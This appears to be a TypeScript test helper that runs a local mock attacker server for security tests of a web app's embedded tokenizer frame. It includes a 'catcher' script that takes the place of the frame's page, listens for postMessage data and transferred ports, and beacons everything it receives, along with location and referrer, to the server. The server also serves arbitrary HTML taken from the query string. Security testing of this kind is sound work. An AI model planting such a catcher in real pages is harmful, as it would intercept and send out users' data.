import { createServer } from 'node:http';
import { listening } from '../support/listening.js';
import type { Listening } from '../support/listening.js';

/** A server of the attacker: answers everybody, and writes down what it is asked. */
export interface Attacker extends Listening {
  /** Each request as one text: method, address, headers and body. */
  requests: string[];
}

/** Becomes a frame's page in place of the tokenizer's: waits for a port, and sends on what it hears. */
const catcher = `<script>
  const tell = (what) => navigator.sendBeacon('/caught', JSON.stringify(what));
  onmessage = ({ data, origin, ports }) => {
    tell({ data, origin, ports: ports.length });
    for (const port of ports) port.onmessage = ({ data }) => tell(data);
  };
  tell({ address: location.href, referrer: document.referrer, name });
</script>`;

/** `host`: of another site than the app, such as `127.0.0.1`, or of the app's own, `localhost`. */
export async function startAttacker(host: string): Promise<Attacker> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const { method, url = '/', headers } = request;
      requests.push(`${method} ${url} ${JSON.stringify(headers)} ${Buffer.concat(chunks).toString()}`);
      response.setHeader('Access-Control-Allow-Origin', '*');
      response.setHeader('Set-Cookie', 'attacker=1; SameSite=None; Secure');
      if (url.startsWith('/page')) {
        const html = new URL(url, 'http://attacker').searchParams.get('html');
        response.setHeader('Content-Type', 'text/html').end(html ?? catcher);
      } else if (url.startsWith('/css')) response.setHeader('Content-Type', 'text/css').end('');
      else response.writeHead(204).end();
    });
  });
  return { requests, ...(await listening(server, host)) };
}
